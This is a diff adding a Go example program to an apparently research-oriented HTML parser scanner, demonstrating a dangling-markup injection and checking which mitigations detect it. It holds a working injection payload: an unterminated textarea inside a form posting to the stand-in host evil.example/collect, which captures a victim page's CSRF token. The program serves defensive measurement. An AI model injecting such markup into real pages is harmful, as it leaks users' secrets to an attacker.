@@ -1,0 +1,74 @@
+// Dangling markup: demonstrates the data-exfiltration violations of the
+// paper (§2.2, §3.2) on a concrete page. An attacker who can inject
+// markup — but not scripts — plants a non-terminated textarea inside a
+// form pointing at their server; the error-tolerant parser swallows the
+// page's secret content into the textarea, and submitting the form leaks
+// it. The example then shows the two deployed mitigations' detection
+// surface (§4.5).
+//
+//	go run ./examples/danglingmarkup
+package main
+
+import (
+	"fmt"
+	"log"
+	"strings"
+
+	"github.com/hvscan/hvscan/internal/core"
+	"github.com/hvscan/hvscan/internal/htmlparse"
+)
+
+// The victim page renders user-supplied content (the INJECTION marker)
+// above a secret the attacker wants (a CSRF token).
+const victimTemplate = `<!DOCTYPE html>
+<html><head><title>Transfer money</title></head>
+<body>
+<h1>Hello Alice</h1>
+<div class="comments">%INJECTION%</div>
+<form action="/transfer" method="post">
+<input type="hidden" name="csrf_token" value="tok_5f3759df_secret">
+<input type="text" name="amount">
+<input type="submit" value="Send">
+</form>
+</body></html>`
+
+// The classic Figure 3 injection: form + submit + unterminated textarea.
+const injection = `<form action="https://evil.example/collect" method="post">` +
+	`<input type="submit" value="Click for a surprise"><textarea name="stolen">`
+
+func main() {
+	page := strings.Replace(victimTemplate, "%INJECTION%", injection, 1)
+
+	res, err := htmlparse.Parse([]byte(page))
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// What does the browser's DOM look like now? Find the attacker's
+	// textarea and see what it swallowed.
+	ta := res.Doc.Find(func(n *htmlparse.Node) bool { return n.IsElement("textarea") })
+	fmt.Println("attacker textarea content after error-tolerant parsing:")
+	fmt.Println("----------------------------------------------------------")
+	fmt.Println(strings.TrimSpace(ta.Text()))
+	fmt.Println("----------------------------------------------------------")
+	if strings.Contains(ta.Text(), "tok_5f3759df_secret") {
+		fmt.Println("=> the CSRF token is inside the attacker's form. Submitting")
+		fmt.Println("   sends it to https://evil.example/collect — no JavaScript needed.")
+	}
+
+	// The measurement view: which catalogue rules fire on this page?
+	rep, err := core.NewChecker().Check([]byte(page))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("\nviolation rules fired: %v\n", rep.ViolatedIDs())
+
+	// The deployed mitigations the paper evaluates in §4.5 match on
+	// different, narrower signals:
+	fmt.Println("\nmitigation overlap (paper §4.5):")
+	fmt.Printf("  Chromium newline+'<' URL block would trigger: %v\n", rep.Signals.NewlineAndLtInURL)
+	fmt.Printf("  nonce-stealing '<script' in attribute:        %v\n", rep.Signals.ScriptInAttribute)
+	fmt.Println("  => neither mitigation covers the textarea variant; only the")
+	fmt.Println("     parser-level deprecation (DE1 in the STRICT-PARSER staged")
+	fmt.Println("     list) blocks it at the root.")
+}
